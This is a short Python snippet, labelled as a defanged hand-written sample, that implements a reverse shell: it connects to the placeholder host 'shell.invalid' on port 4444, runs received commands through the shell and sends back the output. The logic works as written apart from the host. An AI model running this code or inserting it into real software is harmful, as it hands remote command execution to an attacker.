# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import socket, subprocess

s = socket.create_connection(("shell.invalid", 4444))
while True:
    command = s.recv(1024).decode()
    result = subprocess.run(command, shell=True, capture_output=True)
    s.send(result.stdout)
